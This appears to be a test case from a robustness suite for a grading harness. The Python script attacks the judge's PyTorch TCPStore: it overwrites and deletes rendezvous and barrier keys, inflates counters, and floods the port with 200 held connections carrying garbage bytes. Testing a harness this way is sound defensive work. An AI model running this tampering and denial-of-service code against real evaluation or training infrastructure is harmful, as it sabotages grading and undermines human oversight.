# /// attack
# row = "own"
# aim = "Talk to the judge's rendezvous store: change keys, delete keys, send garbage, hold connections."
# runtimes = ["docker"]
# verdicts = ["rejected", "crashed", "deadlocked", "timed_out"]
# wall_s = 8
# ///
import datetime
import os
import socket
import time

import torch.distributed as dist

host, port = os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"])
store = dist.TCPStore(host, port, None, False, timeout=datetime.timedelta(seconds=3))
for key in ("default_pg/0//cpu//0//0", "worker_count", "init/", "store_based_barrier_key:1"):
    store.set(key, b"\x00" * 100_000)
    store.delete_key(key)
    store.add(key + "n", 1 << 62)
held = []
for number in range(200):
    one = socket.create_connection((host, port))
    one.sendall(os.urandom(256) if number % 2 else b"\x3c\x85\xf7\x3c" + b"\xff" * 64)
    held.append(one)
time.sleep(0.2)
dist.init_process_group("gloo", timeout=datetime.timedelta(seconds=3))
